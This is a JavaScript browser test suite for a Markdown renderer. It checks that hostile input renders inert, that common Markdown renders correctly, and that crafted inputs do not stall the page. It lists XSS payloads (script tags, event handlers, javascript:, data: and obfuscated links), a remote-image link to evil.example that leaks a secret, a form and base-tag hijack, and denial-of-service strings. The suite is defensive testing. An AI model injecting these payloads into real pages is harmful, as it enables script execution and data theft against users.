// The Markdown renderer's attack suite, run in a real browser by
// TestMarkdownInBrowser: hostile input must render inert (only the
// allowlisted tags and attributes, links only to http, https and mailto,
// no image ever loaded, nothing run), the Markdown a model writes must
// render as meant, and no input may stall the page. Evaluated with the
// renderer's module URL as `src`; it resolves to a report.
(async (src) => {
  const md = await import(src);
  const failures = [];
  const fail = (name, why) => failures.push(`${name}: ${why}`);

  // inert checks every node the renderer made.
  const inert = (name, root) => {
    for (const e of root.querySelectorAll('*')) {
      if (!md.TAGS.includes(e.tagName)) fail(name, `made <${e.tagName.toLowerCase()}>`);
      for (const a of e.attributes) {
        if (!md.ATTRS.includes(a.name)) fail(name, `attribute ${a.name} on <${e.tagName.toLowerCase()}>`);
        if (/^on/i.test(a.name)) fail(name, `event handler ${a.name}`);
      }
      if (e.tagName === 'A') {
        const proto = new URL(e.href).protocol;
        if (!md.SCHEMES.includes(proto)) fail(name, `link to ${e.href}`);
        if (e.target === '_blank' && !/noopener/.test(e.rel)) fail(name, 'a new-tab link without noopener');
      }
    }
  };
  const render = (text) => {
    const box = document.createElement('div');
    md.renderMarkdown(box, text);
    return box;
  };

  // ---- hostile input ----
  const hostile = [
    ['script tag', '<script>window.__pwned = "script"</script>', '<script>'],
    ['img onerror', '<img src=x onerror="window.__pwned = \'img\'">', 'onerror'],
    ['svg onload', '<svg onload="window.__pwned=1"><circle r=9></svg>', '<svg'],
    ['iframe', '<iframe src="javascript:parent.__pwned=1"></iframe>', '<iframe'],
    ['javascript link', '[click me](javascript:window.__pwned=1)', 'click me'],
    ['mixed-case scheme', '[x](JaVaScRiPt:alert(1))', 'x'],
    ['scheme with a tab', '[x](java\tscript:alert(1))', 'x'],
    ['scheme with an entity', '[x](java&#x09;script:alert(1))', 'x'],
    ['scheme in angle brackets', '[x](<javascript:alert(1)>)', 'x'],
    ['vbscript link', '[x](vbscript:msgbox(1))', 'x'],
    ['data link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'x'],
    ['data image', '![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', 'pixel'],
    ['remote image', '![track](https://evil.example/p.png?leak=secret)', 'track'],
    ['javascript autolink', '<javascript:alert(1)>', 'javascript:'],
    ['html link', '<a href="javascript:alert(1)" onclick="x()">x</a>', '<a href'],
    ['attribute breakout in a bare URL', 'https://ok.example/"onmouseover="alert(1)', 'onmouseover'],
    ['title breakout', '[x](https://ok.example/ "t\\" onclick=\\"alert(1)")', 'x'],
    ['nested link trick', '[outer [inner](javascript:alert(1))](https://ok.example/)', 'inner'],
    ['link in code', '`[x](javascript:alert(1))`', 'javascript'],
    ['html in emphasis', '**<b onmouseover=alert(1)>bold</b>**', '<b onmouseover'],
    ['html in a table', '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:y) |', '<img'],
    ['html in a code block', '```html\n<script>alert(1)</script>\n```', '<script>'],
    ['language breakout', '```"><img src=x onerror=alert(1)>\ncode\n```', 'code'],
    ['style attribute', '<p style="background:url(javascript:alert(1))">x</p>', 'style='],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<meta'],
    ['form', '<form action="https://evil.example"><button>go</button></form>', '<form'],
    ['base tag', '<base href="https://evil.example/">', '<base'],
    ['null byte scheme', '[x](java\u0000script:alert(1))', 'x'],
    ['unicode escape scheme', '[x](\u006aavascript:alert(1))', 'x'],
    ['protocol-relative link', '[x](//evil.example/)', 'x'],
    ['relative link to the gateway', '[x](../api/v1/tools?delete=1)', 'x'],
    ['blockquote of html', '> <script>alert(1)</script>', '<script>'],
    ['list of html', '- <img src=x onerror=alert(1)>\n- [y](javascript:z)', '<img'],
    ['heading of html', '# <script>alert(1)</script>', '<script>'],
    ['escaped brackets', '\\[x\\](javascript:alert(1))', '[x]'],
  ];
  for (const [name, text, shown] of hostile) {
    const box = render(text);
    inert(name, box);
    if (!box.textContent.includes(shown)) fail(name, `the text ${JSON.stringify(shown)} is not shown as text: ${JSON.stringify(box.textContent)}`);
  }
  if (render('![track](https://evil.example/p.png?leak=secret)').querySelector('img')) fail('remote image', 'an <img> was made');
  const allowed = render('[docs](https://docs.example/a?b=1 "The docs") <mailto:me@example.com> https://x.example/path).');
  const hrefs = [...allowed.querySelectorAll('a')].map((a) => a.href);
  const wantHrefs = ['https://docs.example/a?b=1', 'mailto:me@example.com', 'https://x.example/path'];
  if (JSON.stringify(hrefs) !== JSON.stringify(wantHrefs)) fail('allowed links', `got ${JSON.stringify(hrefs)}`);
  if (allowed.querySelector('a').title !== 'The docs') fail('allowed links', 'the title is lost');

  // ---- what a model writes ----
  const shape = (node) => node.nodeType === 3 ? null : node.tagName.toLowerCase() + (node.children.length
    ? '(' + [...node.children].map(shape).join(',') + ')' : '');
  const shapes = [
    ['strong and emphasis', 'a **b** *c* ***d*** ~~e~~', 'p(strong,em,strong(em),del)'],
    ['snake_case stays text', 'call my_func_name now', 'p'],
    ['inline code keeps stars', 'use `a*b*c` here', 'p(code)'],
    ['heading', '## Title', 'h4'],
    ['fenced code with language', '```go\nfunc main() {}\n```', 'div(div(span,button),pre(code))'],
    ['unterminated fence while streaming', '```\npartial', 'div(div(span,button),pre(code))'],
    ['bullet list', '- one\n- two', 'ul(li(p),li(p))'],
    ['nested list', '- one\n  - inner\n- two', 'ul(li(p,ul(li(p))),li(p))'],
    ['numbered list from 3', '3. three\n4. four', 'ol(li(p),li(p))'],
    ['task list', '- [x] done\n- [ ] todo', 'ul(li(span,p),li(span,p))'],
    ['table', '| a | b |\n|:--|--:|\n| 1 | 2 |', 'div(table(thead(tr(th,th)),tbody(tr(td,td))))'],
    ['quote', '> said\n> twice', 'blockquote(p)'],
    ['rule', 'a\n\n---\n\nb', 'p,hr,p'],
    ['paragraphs', 'one\ntwo\n\nthree', 'p,p'],
    ['link', 'see [the docs](https://docs.example/)', 'p(a)'],
    ['image as a link', '![diagram](https://img.example/d.png)', 'p(a)'],
  ];
  for (const [name, text, want] of shapes) {
    const got = [...render(text).children].map(shape).join(',');
    if (got !== want) fail(name, `shape ${got}, want ${want}`);
  }
  if (render('```js\nlet a = "<b>";\n```').querySelector('code').dataset.lang !== 'js') fail('code language', 'lost');
  if (render('```js\nlet a = "<b>";\n```').querySelector('code').textContent !== 'let a = "<b>";') fail('code text', 'changed');
  if (render('| a |\n|---|\n| b |').querySelector('td').textContent !== 'b') fail('table cell', 'lost');
  if (render('| a | b |\n|:-:|--:|').querySelectorAll('th')[0].dataset.align !== 'center') fail('table align', 'lost');

  // ---- input made to stall the page ----
  const big = [
    ['many stars', '*'.repeat(50000)],
    ['alternating stars', '*a'.repeat(25000)],
    ['unclosed underscores', '_a '.repeat(20000)],
    ['open brackets', '['.repeat(50000)],
    ['bracket pairs', '[]('.repeat(20000)],
    ['backticks', '`a'.repeat(25000)],
    ['deep quotes', '>'.repeat(20000) + ' deep'],
    ['deep lists', Array.from({ length: 600 }, (_, i) => ' '.repeat(i * 2) + '- x').join('\n')],
    ['long heading', '# ' + ' '.repeat(50000) + 'x #'],
    ['long table rule', '| a |\n|' + '-|'.repeat(20000)],
    ['long fence info', '```' + 'a'.repeat(50000) + '`'],
    ['many bare URLs', 'https://a.example/ '.repeat(5000)],
    ['URL of parentheses', 'https://a.example/' + ')'.repeat(50000)],
    ['many links', '[a](https://a.example/) '.repeat(5000)],
  ];
  // A catastrophic (quadratic or worse) pattern at this size costs tens of
  // thousands of times what plain text of the same size does; linear work
  // that builds many elements (5,000 links) costs hundreds. The limit is
  // relative to plain text measured here, so a busy machine, which slows
  // both, does not fail the test.
  const timed = (text) => {
    const t0 = performance.now();
    const box = render(text);
    return [performance.now() - t0, box];
  };
  const plainMs = [0, 1, 2].map(() => timed('plain words '.repeat(4200))[0]).sort((a, b) => a - b)[1];
  const limit = Math.max(1500, plainMs * 3000);
  const slow = [];
  for (const [name, text] of big) {
    const [ms, box] = timed(text);
    inert(name, box);
    if (ms > limit) slow.push(`${name}: ${Math.round(ms)} ms, over ${Math.round(limit)} ms (3000 × plain text's ${plainMs.toFixed(1)} ms)`);
    let depth = 0;
    for (let e = box.querySelector('blockquote, ul'); e; e = e.querySelector('blockquote, ul')) depth++;
    if (depth > 8) fail(name, `nested ${depth} deep`);
  }

  // ---- random input from hostile pieces (a fixed seed: failures repeat) ----
  const pieces = ['*', '**', '_', '~~', '`', '```', '[', ']', '(', ')', '![', '<', '>', '# ', '| ', '|---|', '- ', '1. ', '> ',
    '\n', '\n\n', '  ', '\\', '"', "'", 'javascript:', 'JaVaScRiPt:', 'data:text/html,', 'https://ok.example/', 'mailto:a@b.c',
    '<script>', '<img src=x onerror=alert(1)>', ' onerror=', 'x', 'word', '&#x09;', '\t', '\u0000', ':', '//'];
  let seed = 2026;
  const rand = (n) => {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    return seed % n;
  };
  let fuzzed = 0;
  for (let c = 0; c < 3000; c++) {
    let s = '';
    const len = rand(40);
    for (let k = 0; k < len; k++) s += pieces[rand(pieces.length)];
    inert(`random ${JSON.stringify(s)}`, render(s));
    fuzzed++;
  }
  return { failures: failures.slice(0, 50), failureCount: failures.length, slow, fuzzed, pwned: window.__pwned ?? null };
})
